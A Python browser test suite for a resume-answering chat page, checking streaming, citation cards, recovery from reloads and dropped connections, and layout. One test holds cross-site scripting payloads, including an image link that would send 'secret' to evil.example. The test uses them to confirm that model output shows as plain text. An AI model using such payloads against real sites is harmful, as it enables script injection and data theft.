"""The chat page in a real browser: asks, streams, shows sources, survives a reload and a lost connection."""

from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
import pytest_asyncio

from fakes.browser import Browser, Page, running_browser
from fakes.parts import GatedGenerator
from fakes.service import Service, serving

QUESTION = "What did Ines do at Harbour Systems?"


@pytest.fixture
def generator() -> GatedGenerator:
    return GatedGenerator()


@pytest.fixture
async def service(tmp_path: Path, generator: GatedGenerator) -> AsyncIterator[Service]:
    async with serving(tmp_path / "data", generator=generator) as running:
        yield running


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Browser]:
    """One browser for all tests: it takes long to start."""
    async with running_browser(tmp_path_factory.mktemp("browser")) as running:
        yield running


@pytest.fixture
async def page(browser: Browser, service: Service) -> AsyncIterator[Page]:
    """The open chat page; at the end, nothing must have gone wrong in it or been asked of anybody else."""
    async with browser.page() as open_page:
        await open_page.goto(service.url)
        await open_page.until("document.querySelectorAll('.chip').length")
        yield open_page
        assert open_page.problems == []
        assert [url for url in open_page.requests if not url.startswith(service.url)] == []


def lose_connections(service: Service) -> None:
    """Cuts every connection without a word."""
    for connection in list(service.server.server_state.connections):
        connection.transport.abort()


async def test_a_visitor_is_told_who_answers_asks_and_opens_a_source(page: Page, generator: GatedGenerator) -> None:
    assert await page.evaluate("document.getElementById('name').textContent") == "Ines Varga"
    assert "a machine" in str(await page.evaluate("document.getElementById('disclosure').textContent"))
    assert await page.evaluate("document.querySelector('.chip').textContent") == QUESTION
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("She built the **berth planner** [")
    await page.until("document.querySelector('.body strong')?.textContent === 'berth planner'")
    assert await page.evaluate("document.querySelector('.caret') !== null")
    assert "[" not in str(await page.evaluate("document.querySelector('.body').textContent")), (
        "half a citation was shown"
    )
    assert await page.evaluate("document.getElementById('stop').hidden") is False
    generator.say("4], and more [5].")
    await page.until("document.querySelectorAll('.sources .cite').length === 2")
    assert await page.evaluate("document.querySelector('.caret')") is None
    assert await page.evaluate("document.getElementById('stop').hidden") is True
    await page.evaluate("document.querySelector('.body .cite').click()")
    await page.until("!document.getElementById('card').hidden")
    assert (
        await page.evaluate("document.getElementById('card-quote').textContent") == "Built the berth planner in Python"
    )
    assert await page.evaluate("document.getElementById('card-pointer').textContent") == "/work/0/highlights/0"
    await page.call("Input.dispatchKeyEvent", type="rawKeyDown", key="Escape", code="Escape", windowsVirtualKeyCode=27)
    await page.until("document.getElementById('card').hidden")
    assert await page.evaluate("document.activeElement.className") == "cite"


async def test_a_reload_in_mid_answer_loses_nothing(page: Page, service: Service, generator: GatedGenerator) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("The first half ")
    await page.until("document.querySelector('.body')?.textContent.startsWith('The first half')")
    await page.goto(service.url)
    await page.until("document.querySelector('.body')?.textContent.startsWith('The first half')")
    assert await page.evaluate("document.querySelector('.asked').textContent") == QUESTION
    generator.say("and the second.")
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelector('.body').textContent") == "The first half and the second."
    await page.goto(service.url)
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelectorAll('.message').length") == 2


async def test_a_lost_connection_in_mid_answer_loses_nothing(
    page: Page, service: Service, generator: GatedGenerator
) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("One ")
    await page.until("document.querySelector('.body')?.textContent.startsWith('One')")
    for word in ("two ", "three ", "four "):
        lose_connections(service)
        generator.gate.put_nowait(word)
        await page.until(f"document.querySelector('.body').textContent.includes('{word.strip()}')")
    generator.say("five.")
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelector('.body').textContent") == "One two three four five."
    assert len(generator.prompts) == 1


async def test_a_visitor_stops_an_answer_and_asks_on(page: Page, generator: GatedGenerator) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait("Half of it ")
    await page.until("document.querySelector('.body')?.textContent.startsWith('Half')")
    await page.evaluate("document.getElementById('stop').click()")
    await page.until("document.querySelector('.aside')?.textContent === 'You stopped this answer.'")
    generator.say("The next.")
    await page.evaluate("document.getElementById('question').focus()")
    await page.type(QUESTION)
    await page.until("document.querySelectorAll('.foot').length === 2")
    assert await page.evaluate("document.querySelectorAll('.body')[1].textContent") == "The next."


async def test_what_breaks_is_told_and_can_be_tried_again(page: Page, generator: GatedGenerator) -> None:
    await page.evaluate("document.querySelector('.chip').click()")
    generator.gate.put_nowait(RuntimeError("a bug"))
    await page.until("document.querySelector('.trouble button')")
    assert "Something went wrong" in str(await page.evaluate("document.querySelector('.trouble').textContent"))
    generator.say("Now it works.")
    await page.evaluate("document.querySelector('.trouble button').click()")
    await page.until("document.querySelector('.foot')")
    assert "Now it works." in str(await page.evaluate("document.getElementById('messages').textContent"))


async def test_whatever_a_model_says_is_shown_as_text(page: Page, generator: GatedGenerator) -> None:
    """T58: no script runs, nothing is asked of another host."""
    payloads = (
        "<img src=x onerror=\"document.title='won'\"> <script>document.title='won'</script> "
        "![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <iframe srcdoc='<script>1</script>'></iframe>"
    )
    await page.evaluate("document.querySelector('.chip').click()")
    generator.say(payloads)
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.querySelector('.body').textContent") == payloads
    assert (
        await page.evaluate("document.querySelectorAll('.body img, .body script, .body iframe, .body a').length") == 0
    )
    assert await page.evaluate("document.title") == "Ines Varga · Ask the resume"


async def test_a_spoilt_token_is_forgotten_and_the_visitor_is_a_new_one(page: Page, service: Service) -> None:
    await page.evaluate("localStorage.setItem('resume-chat', JSON.stringify({token: 'spoilt'}))")
    await page.goto(service.url)
    await page.until("JSON.parse(localStorage.getItem('resume-chat')).token?.length === 43")
    await page.until("document.querySelectorAll('.chip').length")


@pytest.mark.parametrize("width", [320, 390, 1180])
async def test_nothing_sticks_out_of_the_window(page: Page, generator: GatedGenerator, width: int) -> None:
    await page.look(width=width, height=800, is_phone=width < 600)
    generator.say("A" * 400 + " [4] and https://example.com/" + "b" * 300)
    await page.evaluate("document.querySelector('.chip').click()")
    await page.until("document.querySelector('.foot')")
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


async def test_the_reference_page_draws_every_operation(page: Page, service: Service) -> None:
    async with httpx.AsyncClient(trust_env=False) as http:
        paths = (await http.get(f"{service.url}/schema/openapi.json")).json()["paths"]
    count = sum(len(operations.keys() & {"get", "post", "put", "patch", "delete"}) for operations in paths.values())
    await page.goto(f"{service.url}/schema")
    await page.until(f"document.querySelectorAll('section h2').length === {count}")
    assert await page.evaluate(f"document.querySelectorAll('section pre').length >= {2 * count}")
